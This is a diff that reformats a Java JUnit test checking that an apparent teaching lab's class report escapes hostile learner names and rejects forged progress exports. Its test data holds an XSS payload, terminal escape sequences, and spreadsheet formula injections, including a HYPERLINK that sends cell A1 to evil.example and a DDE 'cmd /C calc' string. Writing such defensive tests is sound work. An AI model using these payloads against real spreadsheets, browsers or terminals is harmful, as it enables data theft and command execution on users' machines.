@@ -24,17 +24,18 @@ import org.junit.jupiter.api.io.TempDir;
 
 /** Issue 12.12: hostile names and forged exports against the class report. */
 class ClassReportTest {
-  private static final Episode EPISODE = new Content(Path.of("").toAbsolutePath()).episode(Content.DEFAULT_EPISODE);
-  private static final List<String> HOSTILE = List.of(
-      "Eve\n| 99 | ✓ | ✓ |",
-      "Mallory | ✓ | ✓",
-      "<script>alert(1)</script><img src=x onerror=alert(2)>",
-      "**Bold** [click](http://evil.example) `code` _i_ &amp; ![i](x.png)",
-      "Title\u001b]0;pwned\u0007\u001b[2J",
-      "back\\slash\\|pipe");
+  private static final Episode EPISODE =
+      new Content(Path.of("").toAbsolutePath()).episode(Content.DEFAULT_EPISODE);
+  private static final List<String> HOSTILE =
+      List.of(
+          "Eve\n| 99 | ✓ | ✓ |",
+          "Mallory | ✓ | ✓",
+          "<script>alert(1)</script><img src=x onerror=alert(2)>",
+          "**Bold** [click](http://evil.example) `code` _i_ &amp; ![i](x.png)",
+          "Title\u001b]0;pwned\u0007\u001b[2J",
+          "back\\slash\\|pipe");
 
-  @TempDir
-  Path dir;
+  @TempDir Path dir;
 
   private static ObjectNode export(String name, String... passedDemos) {
     Progress p = new Progress();
@@ -46,7 +47,9 @@ class ClassReportTest {
   }
 
   private void write(String file, Object json) throws Exception {
-    Files.writeString(dir.resolve(file), json instanceof String s ? s : new ObjectMapper().writeValueAsString(json));
+    Files.writeString(
+        dir.resolve(file),
+        json instanceof String s ? s : new ObjectMapper().writeValueAsString(json));
   }
 
   private ClassReport.Result read() throws Exception {
@@ -59,7 +62,9 @@ class ClassReportTest {
       write("l" + i + ".json", export(HOSTILE.get(i)));
     }
     String md = ClassReport.markdown(read());
-    assertFalse(md.contains("\u001b") || md.contains("\u0007"), "no raw control character reaches the terminal");
+    assertFalse(
+        md.contains("\u001b") || md.contains("\u0007"),
+        "no raw control character reaches the terminal");
 
     Parser parser = Parser.builder().extensions(List.of(TablesExtension.create())).build();
     Node doc = parser.parse(md);
@@ -79,15 +84,20 @@ class ClassReportTest {
       String expected = io.containercodes.lab.render.SafeText.escapeLine(HOSTILE.get(i));
       assertEquals(expected, cell, "the name reads as itself");
     }
-    String html = HtmlRenderer.builder().extensions(List.of(TablesExtension.create())).build().render(doc);
+    String html =
+        HtmlRenderer.builder().extensions(List.of(TablesExtension.create())).build().render(doc);
     for (String markup : List.of("<script", "<img", "<strong", "<a ", "<code", "<em")) {
       assertFalse(html.contains(markup), markup + " in\n" + html);
     }
     assertTrue(html.contains("&lt;script&gt;"), html);
-    assertTrue(html.contains("&amp;amp;"), "an entity in a name is shown as typed, not decoded: " + html);
+    assertTrue(
+        html.contains("&amp;amp;"), "an entity in a name is shown as typed, not decoded: " + html);
   }
 
-  /** The cell's text; any node but plain text (emphasis, link, code, HTML) would mean the name became markup. */
+  /**
+   * The cell's text; any node but plain text (emphasis, link, code, HTML) would mean the name
+   * became markup.
+   */
   private static String plainText(Node cell) {
     StringBuilder sb = new StringBuilder();
     for (Node c = cell.getFirstChild(); c != null; c = c.getNext()) {
@@ -117,15 +127,18 @@ class ClassReportTest {
     write("f.json", export("Lovelace, Ada \"Countess\""));
     write("g.json", export("\uff1d1+1"));
     String csv = ClassReport.csv(read());
-    List<String> names = csv.lines().skip(1).map(l -> l.substring(0, l.indexOf("\",") + 1)).toList();
-    assertEquals(List.of(
-        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"",
-        "\"'+1+cmd|' /C calc'!A0\"",
-        "\"'-2\"",
-        "\"'@SUM(A1:A9)\"",
-        "\"'\tTab\"",
-        "\"Lovelace, Ada \"\"Countess\"\"\"",
-        "\"'\uff1d1+1\""), names);
+    List<String> names =
+        csv.lines().skip(1).map(l -> l.substring(0, l.indexOf("\",") + 1)).toList();
+    assertEquals(
+        List.of(
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"",
+            "\"'+1+cmd|' /C calc'!A0\"",
+            "\"'-2\"",
+            "\"'@SUM(A1:A9)\"",
+            "\"'\tTab\"",
+            "\"Lovelace, Ada \"\"Countess\"\"\"",
+            "\"'\uff1d1+1\""),
+        names);
     assertTrue(csv.startsWith("learner,\"01-welcome\","), csv);
   }
 
@@ -174,24 +187,29 @@ class ClassReportTest {
     write("esc\u001b[2J.json", "[]");
 
     ClassReport.Result r = read();
-    assertEquals(List.of("Ada"), r.rows().stream().map(ClassReport.Row::learner).toList(), String.join("\n", r.skipped()));
+    assertEquals(
+        List.of("Ada"),
+        r.rows().stream().map(ClassReport.Row::learner).toList(),
+        String.join("\n", r.skipped()));
     assertEquals(1, r.rows().get(0).demosPassed());
     assertEquals(13, r.files());
     assertEquals(12, r.skipped().size(), String.join("\n", r.skipped()));
     String all = String.join("\n", r.skipped());
-    for (String expected : List.of(
-        "other-episode.json: it is for episode \"001-something-else\", not 000-container-defense",
-        "unknown-demo.json: unknown demo \"rm-rf\"",
-        "absurd.json: not an export (",
-        "too-many.json: it lists 40 demos; 000-container-defense has",
-        "version.json: export format version 2; this cclab reads version 1",
-        "unknown-lesson.json: unknown lesson \"hack-the-planet\"",
-        "claims-done.json: lesson ",
-        "negative.json: demo fork-bomb has -5 attempts",
-        "huge-count.json: demo fork-bomb has 1.0E12 attempts",
-        "no-name.json: it has no learner name",
-        "not-export.json: not a cclab progress export",
-        "esc\\e[2J.json: not a cclab progress export")) {
+    for (String expected :
+        List.of(
+            "other-episode.json: it is for episode \"001-something-else\", not"
+                + " 000-container-defense",
+            "unknown-demo.json: unknown demo \"rm-rf\"",
+            "absurd.json: not an export (",
+            "too-many.json: it lists 40 demos; 000-container-defense has",
+            "version.json: export format version 2; this cclab reads version 1",
+            "unknown-lesson.json: unknown lesson \"hack-the-planet\"",
+            "claims-done.json: lesson ",
+            "negative.json: demo fork-bomb has -5 attempts",
+            "huge-count.json: demo fork-bomb has 1.0E12 attempts",
+            "no-name.json: it has no learner name",
+            "not-export.json: not a cclab progress export",
+            "esc\\e[2J.json: not a cclab progress export")) {
       assertTrue(all.contains(expected), expected + " in\n" + all);
     }
     r.skipped().forEach(s -> assertFalse(s.contains("\n") || s.contains("\u001b"), s));
